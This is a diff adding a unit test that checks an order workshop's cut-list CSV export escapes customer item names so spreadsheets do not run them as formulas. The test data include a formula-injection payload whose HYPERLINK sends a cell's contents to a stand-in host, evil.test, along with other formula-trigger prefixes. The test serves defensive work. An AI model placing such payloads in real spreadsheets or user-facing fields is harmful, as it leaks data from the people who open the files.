@@ -21,6 +21,15 @@ const items = [
 ];
 
 describe('order workshop files', () => {
+  it("keeps a customer's item name from running as a formula in the workshop's spreadsheet", () => {
+    const evil = ['=HYPERLINK("http://evil.test/?"&A1,"Klik")', '+1+1', '-2+3', '@SUM(1)', '\t=1', '\r=1'];
+    const csv = orderCutListCsv(evil.map((name, i) => ({ seq: i + 1, name, quantity: 1, model: cube })));
+    const names = csv.trimEnd().split('\r\n').slice(1).map((line) => line.slice(line.indexOf(',') + 1));
+    for (const line of names) expect(line, line).toMatch(/^"?'/);
+    // Numbers in the design's own columns stay numbers.
+    expect(csv).toContain(',364,399,18,364,400,');
+  });
+
   it('names item folders by position and an ASCII form of the name', () => {
     expect(itemFolder(items[0]!)).toBe('01-nocna-omarica-csz');
     expect(itemFolder({ seq: 12, name: '—' })).toBe('12');
